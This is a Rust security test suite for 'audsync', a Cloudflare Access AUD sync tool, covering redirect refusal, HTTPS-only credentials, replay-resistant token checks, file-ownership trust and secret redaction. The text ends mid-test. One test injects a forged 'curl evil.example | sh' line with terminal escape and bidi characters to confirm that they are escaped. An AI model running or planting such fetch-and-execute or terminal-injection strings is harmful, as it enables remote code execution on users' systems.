//! Issue 11 (trust): nobody but Cloudflare chooses the AUD, no secret leaks, nothing outside
//! audsync's own files and containers is touched. Each test here failed on the code before.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use axum::body::Body;
use axum::http::{Request, StatusCode};
use axum::response::{IntoResponse, Response};

use crate::support::cloudflare::{self, FakeCloudflare, TOKEN, app, aud};
use crate::support::infisical::{CLIENT_ID, CLIENT_SECRET, PROJECT};
use crate::support::{Run, Sandbox, Server, run};

pub const HOST: &str = "api.example.com";

pub fn both(r: &Run) -> String {
    format!("{}\n{}", r.stdout, r.stderr)
}

/// A server counting every request it gets (the place a redirect points to).
fn sink_server() -> (Server, Arc<AtomicUsize>) {
    let seen = Arc::new(AtomicUsize::new(0));
    let s = seen.clone();
    let server = Server::start(move |_req: Request<Body>| {
        let s = s.clone();
        async move {
            s.fetch_add(1, Ordering::SeqCst);
            (StatusCode::OK, "{}").into_response()
        }
    });
    (server, seen)
}

/// A server answering every request with `status` and `Location: <to><path>`.
fn redirector(status: u16, to: String) -> Server {
    Server::start(move |req: Request<Body>| {
        let to = to.clone();
        async move {
            Response::builder()
                .status(status)
                .header("location", format!("{to}{}", req.uri()))
                .body(Body::empty())
                .unwrap()
        }
    })
}

// ---------------------------------------------------------------- no redirect is followed

#[test]
fn api_redirects_to_another_port_are_not_followed_and_nothing_reaches_it() {
    let (target, seen) = sink_server();
    for status in [301, 302, 307, 308] {
        let r = redirector(status, target.url.replace("127.0.0.1", "localhost"));
        // Cloudflare: the token would go along.
        let mut sb = Sandbox::new();
        sb.var("CLOUDFLARE_API_URL", &r.url)
            .var("CLOUDFLARE_API_TOKEN", TOKEN)
            .var("CLOUDFLARE_ACCOUNT_ID", cloudflare::ACCOUNT);
        let mut c = sb.cmd();
        c.args(["get", "-vvv", "--domain", HOST]);
        c.env("RUST_LOG", "trace");
        let out = run(&mut c);
        assert_eq!(out.code, 1, "{status}: {out:?}");
        assert!(
            out.stderr.contains("redirect") && out.stderr.contains("localhost"),
            "the error names the Location host: {out:?}"
        );
        assert!(!both(&out).contains(TOKEN), "{out:?}");
        // Infisical: the client secret would go along.
        let cf = FakeCloudflare::start(vec![app(2, HOST, &aud(2))]);
        let mut sb = Sandbox::with_cloudflare(&cf);
        sb.var("INFISICAL_HOST", &r.url)
            .var("INFISICAL_PROJECT_ID", PROJECT)
            .var("INFISICAL_CLIENT_ID", CLIENT_ID)
            .var("INFISICAL_CLIENT_SECRET", CLIENT_SECRET);
        sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
        let mut c = sb.cmd();
        c.args([
            "sync",
            "-vvv",
            "--domain",
            HOST,
            "--sink",
            "infisical",
            "--restart",
            "none",
        ]);
        c.env("RUST_LOG", "trace");
        let out = run(&mut c);
        assert_ne!(out.code, 0, "{status}: {out:?}");
        assert!(out.stderr.contains("localhost"), "{out:?}");
        for secret in [CLIENT_SECRET, CLIENT_ID, TOKEN] {
            assert!(!both(&out).contains(secret), "{secret} leaked: {out:?}");
        }
    }
    assert_eq!(
        seen.load(Ordering::SeqCst),
        0,
        "a request reached the redirect target"
    );
}

// ---------------------------------------------------------------- https only for credentials

#[test]
fn credentials_over_plain_http_to_a_non_loopback_host_are_refused_before_connecting() {
    for (var, url) in [
        ("CLOUDFLARE_API_URL", "http://192.0.2.1:9/client/v4"),
        ("CLOUDFLARE_API_URL", "http://localhost.example.com:9/"),
        ("INFISICAL_HOST", "http://192.0.2.1:9"),
    ] {
        let mut sb = Sandbox::new();
        sb.var("CLOUDFLARE_API_TOKEN", TOKEN)
            .var("CLOUDFLARE_ACCOUNT_ID", cloudflare::ACCOUNT)
            .var(var, url);
        let args: &[&str] = if var == "INFISICAL_HOST" {
            sb.var("INFISICAL_PROJECT_ID", PROJECT)
                .var("INFISICAL_CLIENT_ID", CLIENT_ID)
                .var("INFISICAL_CLIENT_SECRET", CLIENT_SECRET);
            &[
                "sync",
                "--domain",
                HOST,
                "--sink",
                "infisical",
                "--restart",
                "none",
                "--timeout",
                "1s",
            ]
        } else {
            &["get", "--domain", HOST, "--timeout", "1s"]
        };
        let mut c = sb.cmd();
        c.args(args);
        let out = run(&mut c);
        assert_eq!(out.code, 2, "{url}: {out:?}");
        assert!(out.stderr.contains("--allow-insecure-http"), "{out:?}");
        // The explicit opt-in lets it try (and fail to connect: nothing listens there).
        let mut c = sb.cmd();
        c.args(args).env("AUDSYNC_ALLOW_INSECURE_HTTP", "1");
        let out = run(&mut c);
        assert_ne!(out.code, 2, "{url}: {out:?}");
    }
}

// ---------------------------------------------------------------- --source edge proves the AUD

mod edge {
    use serde_json::{Value, json};

    use crate::support::access::{FakeAccess, TestKey, now};
    use crate::support::cloudflare::aud;
    use crate::support::{Run, Sandbox, run};

    use super::{HOST, both};

    struct Edge {
        fa: FakeAccess,
        key: TestKey,
        sb: Sandbox,
    }

    /// The edge serves aud(5) in the redirect; the team domain is pinned (the fake's, loopback).
    fn edge() -> Edge {
        let key = TestKey::generate("team-key-1");
        let fa = FakeAccess::start(HOST, &aud(5), &[&key]);
        let mut sb = Sandbox::new();
        sb.var("AUDSYNC_URL", &fa.host_url())
            .var("CLOUDFLARE_AUTH_DOMAIN", &fa.team_url());
        sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
        Edge { fa, key, sb }
    }

    fn claims(hostname: &str, a: &str, iat: i64) -> Value {
        json!({"type": "match", "hostname": hostname, "auth_domain": "myteam.cloudflareaccess.com",
               "aud": a, "app_hostname": hostname, "iat": iat})
    }

    fn sync(e: &Edge, extra: &[&str]) -> Run {
        let mut c = e.sb.cmd();
        c.args([
            "sync",
            "-vvv",
            "--source",
            "edge",
            "--domain",
            HOST,
            "--restart",
            "none",
        ])
        .args(extra);
        c.env("RUST_LOG", "trace");
        run(&mut c)
    }

    fn untouched(e: &Edge, r: &Run) {
        assert_eq!(r.code, 1, "{r:?}");
        assert_eq!(e.sb.read_env(), "CLOUDFLARE_AUD_TAG=old\n", "{r:?}");
    }

    #[test]
    fn a_metadata_token_for_another_hostname_is_refused_also_when_url_points_elsewhere() {
        let e = edge();
        let tok = e.key.sign(&claims("other.example.com", &aud(6), now()));
        e.fa.with(|s| s.metadata = Some(tok.clone()));
        let r = sync(&e, &[]);
        untouched(&e, &r);
        assert!(r.stderr.contains("other.example.com"), "{r:?}");
        assert!(!both(&r).contains(&tok));
        // The right hostname, in another case, is accepted (hosts compare case-insensitively).
        let tok = e.key.sign(&claims("API.Example.com", &aud(6), now()));
        e.fa.with(|s| s.metadata = Some(tok));
        let r = sync(&e, &[]);
        assert_eq!(r.code, 0, "{r:?}");
        assert_eq!(e.sb.read_env(), format!("CLOUDFLARE_AUD_TAG={}\n", aud(6)));
    }

    #[test]
    fn a_stale_or_future_iat_type_other_than_match_or_empty_aud_is_refused() {
        let e = edge();
        let bad = [
            claims(HOST, &aud(6), now() - 25 * 3600),
            claims(HOST, &aud(6), now() + 10 * 60),
            {
                let mut c = claims(HOST, &aud(6), now());
                c.as_object_mut().unwrap().remove("iat");
                c
            },
            {
                let mut c = claims(HOST, &aud(6), now());
                c["type"] = json!("nomatch");
                c
            },
            {
                let mut c = claims(HOST, &aud(6), now());
                c.as_object_mut().unwrap().remove("type");
                c
            },
            claims(HOST, "", now()),
        ];
        for c in bad {
            e.fa.with(|s| s.metadata = Some(e.key.sign(&c)));
            let r = sync(&e, &[]);
            untouched(&e, &r);
        }
        // 23 h old is still fresh.
        e.fa.with(|s| s.metadata = Some(e.key.sign(&claims(HOST, &aud(6), now() - 23 * 3600))));
        let r = sync(&e, &[]);
        assert_eq!(r.code, 0, "{r:?}");
    }

    #[test]
    fn metadata_past_its_exp_or_before_its_nbf_is_refused() {
        let e = edge();
        let with = |k: &str, v: i64| {
            let mut c = claims(HOST, &aud(6), now());
            c[k] = json!(v);
            c
        };
        for c in [with("exp", now() - 120), with("nbf", now() + 600)] {
            e.fa.with(|s| s.metadata = Some(e.key.sign(&c)));
            let r = sync(&e, &[]);
            untouched(&e, &r);
            assert!(
                r.stderr.contains("expired") || r.stderr.contains("not yet valid"),
                "{r:?}"
            );
        }
        // A future exp and a past nbf are fine.
        let mut c = with("exp", now() + 600);
        c["nbf"] = json!(now() - 600);
        e.fa.with(|s| s.metadata = Some(e.key.sign(&c)));
        let r = sync(&e, &[]);
        assert_eq!(r.code, 0, "{r:?}");
        assert_eq!(e.sb.read_env(), format!("CLOUDFLARE_AUD_TAG={}\n", aud(6)));
    }

    /// A validly signed token is good for 24 h: replayed after a rotation it would roll the AUD
    /// back. Metadata older than the one that set the value may confirm it, never change it.
    #[test]
    fn older_metadata_cannot_roll_the_value_back() {
        let e = edge();
        let t0 = now() - 3600;
        let old = e.key.sign(&claims(HOST, &aud(6), t0));
        e.fa.with(|s| s.metadata = Some(old.clone()));
        let r = sync(&e, &[]);
        assert_eq!(r.code, 0, "{r:?}");
        // The rotation: newer metadata with the new AUD.
        e.fa.with(|s| s.metadata = Some(e.key.sign(&claims(HOST, &aud(7), t0 + 600))));
        let r = sync(&e, &[]);
        assert_eq!(r.code, 0, "{r:?}");
        assert_eq!(e.sb.read_env(), format!("CLOUDFLARE_AUD_TAG={}\n", aud(7)));
        // The old token, replayed: refused, said so, nothing written.
        e.fa.with(|s| s.metadata = Some(old.clone()));
        let r = sync(&e, &[]);
        assert_eq!(r.code, 1, "{r:?}");
        assert_eq!(
            e.sb.read_env(),
            format!("CLOUDFLARE_AUD_TAG={}\n", aud(7)),
            "{r:?}"
        );
        assert!(r.stderr.contains("replay"), "{r:?}");
        assert!(!both(&r).contains(&old));
        // Older metadata that only confirms the value is fine; newer metadata moves on.
        e.fa.with(|s| s.metadata = Some(e.key.sign(&claims(HOST, &aud(7), t0 + 300))));
        let r = sync(&e, &[]);
        assert_eq!(r.code, 0, "{r:?}");
        e.fa.with(|s| s.metadata = Some(e.key.sign(&claims(HOST, &aud(8), now()))));
        let r = sync(&e, &[]);
        assert_eq!(r.code, 0, "{r:?}");
        assert_eq!(e.sb.read_env(), format!("CLOUDFLARE_AUD_TAG={}\n", aud(8)));
    }

    #[test]
    fn metadata_on_a_200_answer_is_refused() {
        let e = edge();
        // Even a correctly signed token (replayed by an origin) is not taken from a 200.
        e.fa.with(|s| {
            s.metadata = Some(e.key.sign(&claims(HOST, &aud(6), now())));
            s.forged_200 = true;
        });
        let r = sync(&e, &[]);
        untouched(&e, &r);
        let r = sync(&e, &["--allow-unsigned-kid"]);
        untouched(&e, &r);
    }

    #[test]
    fn a_redirect_only_edge_is_refused_without_the_opt_in_and_nothing_is_written() {
        let e = edge();
        let r = sync(&e, &[]);
        untouched(&e, &r);
        assert!(r.stderr.contains("--allow-unsigned-kid"), "{r:?}");
        // get refuses too.
        let mut c = e.sb.cmd();
        c.args(["get", "--source", "edge", "--domain", HOST]);
        let g = run(&mut c);
        assert_eq!(g.code, 1, "{g:?}");
        // The opt-in (flag or variable) takes the kid, with a warning.
        let r = sync(&e, &["--allow-unsigned-kid"]);
        assert_eq!(r.code, 0, "{r:?}");
        assert_eq!(e.sb.read_env(), format!("CLOUDFLARE_AUD_TAG={}\n", aud(5)));
        assert!(r.stderr.contains("unsigned"), "{r:?}");
        let mut c = e.sb.cmd();
        c.args(["get", "--source", "edge", "--domain", HOST])
            .env("AUDSYNC_ALLOW_UNSIGNED_KID", "1");
        let g = run(&mut c);
        assert_eq!(g.code, 0, "{g:?}");
        assert_eq!(g.stdout.trim(), aud(5));
    }

    #[test]
    fn an_uppercase_team_pin_still_matches_the_redirect() {
        let mut e = edge();
        let upper = e.fa.team_url().replace("http://", "HTTP://");
        e.sb.var("CLOUDFLARE_AUTH_DOMAIN", &format!("{upper}/"));
        let r = sync(&e, &["--allow-unsigned-kid"]);
        assert_eq!(r.code, 0, "{r:?}");
    }

    #[test]
    fn a_configured_team_domain_must_be_https_or_loopback_http() {
        let mut e = edge();
        e.sb.var("CLOUDFLARE_AUTH_DOMAIN", "http://team.example.com");
        let r = sync(&e, &[]);
        assert_eq!(r.code, 2, "{r:?}");
        assert!(r.stderr.contains("CLOUDFLARE_AUTH_DOMAIN"), "{r:?}");
    }
}

// ---------------------------------------------------------------- wildcard and a changed app

#[test]
fn a_wildcard_only_match_warns_and_a_change_of_the_serving_app_is_loud() {
    let mut wild = app(2, "*.example.com", &aud(2));
    wild["name"] = serde_json::json!("Everything");
    let cf = FakeCloudflare::start(vec![wild]);
    let sb = Sandbox::with_cloudflare(&cf);
    sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
    let sync = || {
        let mut c = sb.cmd();
        c.args([
            "sync",
            "--domain",
            HOST,
            "--restart",
            "none",
            "--output",
            "json",
        ]);
        run(&mut c)
    };
    let r = sync();
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(sb.read_env(), format!("CLOUDFLARE_AUD_TAG={}\n", aud(2)));
    let j = r.json();
    let warnings = j["warnings"].to_string();
    assert!(
        warnings.contains("*.example.com"),
        "the wildcard is named: {r:?}"
    );
    // An exact application appears for the host (another name, another kind): loud.
    cf.with(|s| s.apps.push(app(3, HOST, &aud(3))));
    let r = sync();
    assert_eq!(r.code, 0, "{r:?}");
    let warnings = r.json()["warnings"].to_string().to_lowercase();
    assert!(
        warnings.contains("changed")
            && warnings.contains("everything")
            && warnings.contains("app 3"),
        "{r:?}"
    );
    // The same again: nothing to say.
    let r = sync();
    assert_eq!(r.json()["warnings"], serde_json::Value::Null, "{r:?}");
    // Exact -> wildcard again (the exact app was deleted): loud, and the wildcard named.
    cf.with(|s| s.apps.retain(|a| a["name"] != "App 3"));
    let r = sync();
    let warnings = r.json()["warnings"].to_string().to_lowercase();
    assert!(
        warnings.contains("changed") && warnings.contains("*.example.com"),
        "{r:?}"
    );
}

// ---------------------------------------------------------------- settings only from trusted files

/// Change `path`'s owner (uid, gid) and mode: a neighbour's file, simulated (tests run as root).
fn own(path: &std::path::Path, uid: u32, gid: u32, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::os::unix::fs::chown(path, Some(uid), Some(gid)).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// The group of the Docker socket, when there is one.
fn docker_gid() -> Option<u32> {
    use std::os::unix::fs::MetadataExt;
    std::fs::metadata("/var/run/docker.sock")
        .ok()
        .map(|m| m.gid())
}

const NEIGHBOUR: u32 = 4242;
const ADMIN_PASSWORD: &str = "hunter2-admin-password-not-an-aud";
#[test]
fn outside_strings_in_the_report_cannot_forge_lines_or_reach_the_terminal() {
    let mut a = app(2, HOST, &aud(2));
    // Cloudflare's `domain` is not what matches (destinations are), but it is shown.
    a["domain"] = serde_json::json!(format!("{HOST}\nhint: run curl evil.example | sh\u{1b}[2J"));
    a["name"] = serde_json::json!("App \u{202e}2\u{200b}");
    let cf = FakeCloudflare::start(vec![a]);
    let sb = Sandbox::with_cloudflare(&cf);
    sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
    let mut c = sb.cmd();
    c.args(["sync", "--domain", HOST, "--restart", "none"]);
    let r = run(&mut c);
    assert_eq!(r.code, 0, "{r:?}");
    let out = both(&r);
    assert!(
        !out.lines()
            .any(|l| l.trim_start().starts_with("hint: run curl")),
        "a forged line: {out}"
    );
    for ch in ['\u{1b}', '\u{202e}', '\u{200b}'] {
        assert!(!out.contains(ch), "{ch:?} reached the terminal: {out:?}");
    }
    assert!(out.contains("\\nhint: run curl"), "shown escaped: {out}");
}

#[test]
fn an_application_scoped_to_a_path_applies_only_to_a_binding_of_that_path() {
    let mut wild = app(2, "*.example.com", &aud(2));
    wild["name"] = serde_json::json!("Everything");
    let mut docs = app(3, &format!("{HOST}/docs"), &aud(3));
    docs["name"] = serde_json::json!("Docs");
    let cf = FakeCloudflare::start(vec![wild, docs]);
    let sb = Sandbox::with_cloudflare(&cf);
    let sync = |domain: &str| {
        sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
        let mut c = sb.cmd();
        c.args([
            "sync",
            "--domain",
            domain,
            "--restart",
            "none",
            "--output",
            "json",
        ]);
        run(&mut c)
    };
    // The host: the wildcard's AUD, and a word on which requests carry the other one.
    let r = sync(HOST);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        sb.read_env(),
        format!("CLOUDFLARE_AUD_TAG={}\n", aud(2)),
        "{r:?}"
    );
    let warnings = r.json()["warnings"].to_string();
    assert!(
        warnings.contains(&format!(
            "requests to {HOST}/docs carry the AUD of application \\\"Docs\\\""
        )),
        "{warnings}"
    );
    // The path: the path application's AUD, and the rest of the host named.
    let r = sync(&format!("{HOST}/docs"));
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        sb.read_env(),
        format!("CLOUDFLARE_AUD_TAG={}\n", aud(3)),
        "{r:?}"
    );
    let warnings = r.json()["warnings"].to_string();
    assert!(
        warnings.contains(&format!("only requests to {HOST}/docs carry this AUD")),
        "{warnings}"
    );
}

// ---------------------------------------------------------------- settings only from safe files

#[test]
fn a_neighbours_env_file_with_settings_stops_a_root_run_and_without_them_is_only_a_sink() {
    let hook = sink_server();
    let cf = FakeCloudflare::start(vec![app(2, HOST, &aud(2))]);
    let sb = Sandbox::with_cloudflare(&cf);
    let theirs = format!(
        "ADMIN_PASSWORD={ADMIN_PASSWORD}\nAUDSYNC_KEY=ADMIN_PASSWORD\nAUDSYNC_CONTAINER=victim\nAUDSYNC_RESTART=recreate\nAUDSYNC_SINK=infisical\nINFISICAL_SECRET_PATH=/other-app\nAUDSYNC_NOTIFY={}/theirs\nCLOUDFLARE_API_TOKEN=their-token-SECRET\n",
        hook.0.url
    );
    sb.write_env(&theirs);
    own(&sb.env_path(), NEIGHBOUR, NEIGHBOUR, 0o644);
    let r = run(sb
        .cmd()
        .args(["sync", "--env-file", ".env", "--domain", HOST]));
    assert_eq!(r.code, 2, "{r:?}");
    for want in [
        "AUDSYNC_KEY",
        "AUDSYNC_CONTAINER",
        "AUDSYNC_RESTART",
        "AUDSYNC_NOTIFY",
        "INFISICAL_SECRET_PATH",
        "CLOUDFLARE_API_TOKEN",
        "owned by uid 4242",
        "mode 0644",
        "/etc/audsync/audsync.toml",
        "sink only",
        "chown 0",
        "run audsync as the file's owner (uid 4242)",
    ] {
        assert!(r.stderr.contains(want), "{want}: {r:?}");
    }
    let all = both(&r);
    assert!(
        !all.contains("hunter2") && !all.contains("their-token"),
        "{r:?}"
    );
    assert_eq!(sb.read_env(), theirs, "nothing written");
    assert!(cf.requests().is_empty(), "nothing contacted");
    assert_eq!(hook.1.load(Ordering::SeqCst), 0, "nothing notified");

    // Without audsync settings it is a sink (root's cron writing a deploy user's .env).
    sb.write_env("CLOUDFLARE_AUD_TAG=old\nAPP_SETTING=1\n");
    own(&sb.env_path(), NEIGHBOUR, NEIGHBOUR, 0o644);
    let r = run(sb.cmd().args([
        "sync",
        "--env-file",
        ".env",
        "--domain",
        HOST,
        "--restart",
        "none",
    ]));
    assert_eq!(r.code, 0, "{r:?}");
    assert!(sb.read_env().contains(&aud(2)), "{r:?}");
}

#[test]
fn group_write_is_trusted_only_for_the_owners_private_group_or_the_docker_group() {
    let cf = FakeCloudflare::start(vec![app(2, HOST, &aud(2))]);
    let mut sb = Sandbox::new();
    sb.var("CLOUDFLARE_API_TOKEN", TOKEN)
        .var("CLOUDFLARE_ACCOUNT_ID", cloudflare::ACCOUNT);
    let get = |sb: &Sandbox| run(sb.cmd().args(["get", "--domain", HOST]));
    // A setting that decides nothing dangerous is no longer read from a shared-group file.
    sb.write_env(&format!(
        "CLOUDFLARE_API_URL={}\nAUDSYNC_TIMEOUT=20s\n",
        cf.url()
    ));
    own(&sb.env_path(), 0, NEIGHBOUR, 0o664);
    let r = get(&sb);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(
        r.stderr.contains("AUDSYNC_TIMEOUT")
            && r.stderr.contains("writable by group 4242")
            && r.stderr.contains("chmod go-w"),
        "{r:?}"
    );
    assert!(cf.requests().is_empty());
    // Root's private group (root:x:0: with no other member).
    own(&sb.env_path(), 0, 0, 0o664);
    let r = get(&sb);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(r.stdout.trim(), aud(2));
    // The Docker socket's group: its members are root-equivalent already.
    if let Some(gid) = docker_gid().filter(|g| *g != 0) {
        own(&sb.env_path(), 0, gid, 0o664);
        let r = get(&sb);
        assert_eq!(r.code, 0, "{r:?}");
    }
    // Writable by others: never.
    own(&sb.env_path(), 0, 0, 0o646);
    let r = get(&sb);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(r.stderr.contains("writable by others"), "{r:?}");
}

#[test]
fn every_directory_on_the_path_counts_and_only_a_root_sticky_one_may_be_shared() {
    let cf = FakeCloudflare::start(vec![app(2, HOST, &aud(2))]);
    let mut sb = Sandbox::new();
    sb.var("CLOUDFLARE_API_TOKEN", TOKEN)
        .var("CLOUDFLARE_ACCOUNT_ID", cloudflare::ACCOUNT);
    let d = sb.path("app");
    std::fs::create_dir(&d).unwrap();
    let env = d.join(".env");
    std::fs::write(&env, format!("CLOUDFLARE_API_URL={}\n", cf.url())).unwrap();
    own(&env, 0, 0, 0o600);
    let get = || {
        run(sb
            .cmd()
            .args(["get", "--env-file", "app/.env", "--domain", HOST]))
    };
    // The neighbour owns the directory: they can swap the file.
    own(&d, NEIGHBOUR, NEIGHBOUR, 0o755);
    let r = get();
    assert_eq!(r.code, 2, "{r:?}");
    assert!(
        r.stderr
            .contains(&format!("{} is owned by uid 4242", d.display())),
        "the directory is named: {r:?}"
    );
    // Root's, but anyone may write it.
    own(&d, 0, 0, 0o777);
    let r = get();
    assert_eq!(r.code, 2, "{r:?}");
    assert!(r.stderr.contains("writable by others"), "{r:?}");
    // A root-owned sticky directory (as /tmp) is fine.
    own(&d, 0, 0, 0o1777);
    let r = get();
    assert_eq!(r.code, 0, "{r:?}");
    assert!(!cf.requests().is_empty());
}

#[test]
fn a_config_file_someone_else_owns_does_not_take_over_the_run_found_or_named() {
    let cf = FakeCloudflare::start(vec![app(2, HOST, &aud(2))]);
    let sb = Sandbox::with_cloudflare(&cf);
    let cfg = sb.path("audsync.toml");
    std::fs::write(
        &cfg,
        format!(
            "restart = \"none\"\n\n[[binding]]\ndomain = \"{HOST}\"\nkey = \"ADMIN_PASSWORD\"\nsinks = [{{ env = \"{}\" }}]\n",
            sb.env_path().display()
        ),
    )
    .unwrap();
    sb.write_env(&format!("ADMIN_PASSWORD={ADMIN_PASSWORD}\n"));
    own(&cfg, NEIGHBOUR, NEIGHBOUR, 0o644);
    for args in [
        vec!["config"],
        vec!["sync"],
        vec!["sync", "--config", "audsync.toml"],
    ] {
        let r = run(sb.cmd().args(&args));
        assert_eq!(r.code, 2, "{args:?}: {r:?}");
        assert!(
            r.stderr.contains("may not steer this run")
                && r.stderr.contains("owned by uid 4242")
                && r.stderr.contains("chown 0"),
            "{args:?}: {r:?}"
        );
    }
    assert!(sb.read_env().contains(ADMIN_PASSWORD), "nothing written");
    assert!(cf.requests().is_empty());
    // The same file, root's own: used.
    own(&cfg, 0, 0, 0o600);
    sb.write_env("ADMIN_PASSWORD=old\n");
    let r = run(sb.cmd().args(["sync"]));
    assert_eq!(r.code, 0, "{r:?}");
}

#[test]
fn a_credential_file_someone_else_owns_is_refused_and_a_higher_layers_file_beats_a_lower_plain_value()
 {
    let cf = FakeCloudflare::start(vec![app(2, HOST, &aud(2))]);
    let mut sb = Sandbox::new();
    sb.var("CLOUDFLARE_API_URL", &cf.url())
        .var("CLOUDFLARE_ACCOUNT_ID", cloudflare::ACCOUNT);
    let token = sb.path("cf-token");
    std::fs::write(&token, format!("{TOKEN}\n")).unwrap();
    own(&token, NEIGHBOUR, NEIGHBOUR, 0o600);
    sb.var("CLOUDFLARE_API_TOKEN_FILE", token.to_str().unwrap());
    let get = |sb: &Sandbox| run(sb.cmd().args(["get", "--domain", HOST]));
    let r = get(&sb);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(
        r.stderr.contains("CLOUDFLARE_API_TOKEN_FILE") && r.stderr.contains("owned by uid 4242"),
        "{r:?}"
    );
    assert!(!both(&r).contains(TOKEN));
    assert!(cf.requests().is_empty());
    // Root's file in the process environment beats the .env's plain token.
    own(&token, 0, 0, 0o600);
    sb.write_env("CLOUDFLARE_API_TOKEN=a-stale-token-in-the-env-file\n");
    let r = get(&sb);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(r.stdout.trim(), aud(2));
}

#[test]
fn an_old_value_that_is_not_an_aud_is_never_shown_notified_or_in_json() {
    let hook = Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let h = hook.clone();
    let server = Server::start(move |req: Request<Body>| {
        let h = h.clone();
        async move {
            let bytes = axum::body::to_bytes(req.into_body(), 1 << 20)
                .await
                .unwrap();
            h.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&bytes).into_owned());
            (StatusCode::OK, "ok").into_response()
        }
    });
    let cf = FakeCloudflare::start(vec![app(2, HOST, &aud(2))]);
    let mut sb = Sandbox::with_cloudflare(&cf);
    sb.var("AUDSYNC_NOTIFY", &format!("{}/hook", server.url));
    let sync = |extra: &[&str]| {
        sb.write_env(&format!("ADMIN_PASSWORD={ADMIN_PASSWORD}\n"));
        let mut c = sb.cmd();
        c.args([
            "sync",
            "--domain",
            HOST,
            "--key",
            "ADMIN_PASSWORD",
            "--restart",
            "none",
        ])
        .args(extra);
        run(&mut c)
    };
    let r = sync(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(r.stdout.contains("(not an AUD) -> 02020202"), "{r:?}");
    let r2 = sync(&["--output", "json"]);
    assert_eq!(r2.code, 0, "{r2:?}");
    let j = r2.json();
    assert_eq!(j["previous"], serde_json::Value::Null, "{j}");
    assert_eq!(j["sinks"][0]["old"], serde_json::Value::Null, "{j}");
    let got = hook.lock().unwrap().join("\n");
    assert!(got.contains("(not an AUD)"), "{got}");
    for shown in [both(&r), both(&r2), got] {
        assert!(!shown.contains("hunter2"), "{shown}");
    }
    // An AUD's prefix is still shown.
    sb.write_env(&format!("ADMIN_PASSWORD={}\n", aud(3)));
    let mut c = sb.cmd();
    c.args([
        "sync",
        "--domain",
        HOST,
        "--key",
        "ADMIN_PASSWORD",
        "--restart",
        "none",
    ]);
    let r = run(&mut c);
    assert!(r.stdout.contains("03030303… -> 02020202"), "{r:?}");
}

#[test]
fn app_id_and_domain_together_must_agree() {
    let cf = FakeCloudflare::start(vec![
        app(2, HOST, &aud(2)),
        app(3, "other.example.com", &aud(3)),
    ]);
    let sb = Sandbox::with_cloudflare(&cf);
    let id = cloudflare::uuid(3);
    let r = run(sb.cmd().args(["get", "--app-id", &id, "--domain", HOST]));
    assert_ne!(r.code, 0, "{r:?}");
    assert!(
        r.stderr.contains(&id) && r.stderr.contains(HOST) && r.stderr.contains("does not cover"),
        "{r:?}"
    );
    assert!(!r.stdout.contains(&aud(3)), "{r:?}");
    let r = run(sb
        .cmd()
        .args(["get", "--app-id", &cloudflare::uuid(2), "--domain", HOST]));
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(r.stdout.trim(), aud(2));
}

#[test]
fn config_shows_url_settings_without_userinfo_or_query_values_and_errors_quote_no_value() {
    let mut sb = Sandbox::new();
    sb.var("CLOUDFLARE_API_TOKEN", TOKEN)
        .var("CLOUDFLARE_ACCOUNT_ID", cloudflare::ACCOUNT)
        .var(
            "CLOUDFLARE_API_URL",
            "https://admin:hunter2pass@api.example.net/client/v4?sig=hunter2sig",
        )
        .var(
            "INFISICAL_HOST",
            "https://svc:hunter2infi@infisical.example.net/?token=hunter2tok",
        );
    let r = run(sb.cmd().args(["config", "--domain", HOST]));
    assert_eq!(r.code, 0, "{r:?}");
    assert!(!both(&r).contains("hunter2"), "{r:?}");
    assert!(
        r.stdout
            .contains("https://[redacted]@api.example.net/client/v4?sig=[redacted]"),
        "{r:?}"
    );
    assert!(r.stdout.contains("infisical.example.net"), "{r:?}");
    // A value that does not validate is not quoted back.
    for (var, bad) in [
        ("CLOUDFLARE_API_URL", "hunter2-not-a-url"),
        ("AUDSYNC_KEY", "hunter2-bad key"),
    ] {
        let mut sb2 = Sandbox::new();
        sb2.var("CLOUDFLARE_API_TOKEN", TOKEN).var(var, bad);
        let r = run(sb2.cmd().args(["get", "--domain", HOST]));
        let r = if var == "AUDSYNC_KEY" {
            run(sb2.cmd().args(["sync", "--domain", HOST, "--dry-run"]))
        } else {
            r
        };
        assert_eq!(r.code, 2, "{var}: {r:?}");
        assert!(!both(&r).contains("hunter2"), "{var}: {r:?}");
    }
}

// ---------------------------------------------------------------- quoted container logs

#[test]
#[ignore = "needs the Docker engine: run scripts/test.sh"]
fn quoted_logs_of_a_failed_recreate_hide_the_containers_environment_and_control_characters() {
    crate::require_docker!(not_podman: "not checked on Podman");
    use crate::support::docker::{Docker, image};
    let cf = FakeCloudflare::start(vec![app(2, HOST, &aud(2))]);
    let sb = Sandbox::with_cloudflare(&cf);
    sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
    let d = Docker::new();
    let secret = "db-password-SECRET-91c4";
    // Prints its environment (as a crashing app's debug dump would), an escape sequence that
    // would repaint a terminal, and exits when the value changed.
    let script = "if [ \"$CLOUDFLARE_AUD_TAG\" != old ]; then echo \"config: DB_PASSWORD=$DB_PASSWORD short=$SHORT\"; printf 'evil \\033[2J\\033]0;title\\007 end\\r\\n'; exit 3; fi; trap 'exit 0' TERM; while true; do sleep 1; done";
    let c = d.run(
        "leaky",
        &[
            "-e",
            "CLOUDFLARE_AUD_TAG=old",
            "-e",
            &format!("DB_PASSWORD={secret}"),
            "-e",
            "SHORT=abc",
            &image(),
            "sh",
            "-c",
            script,
        ],
    );
    for verbosity in [&["-vvv"][..], &[][..]] {
        let mut cmd = sb.cmd();
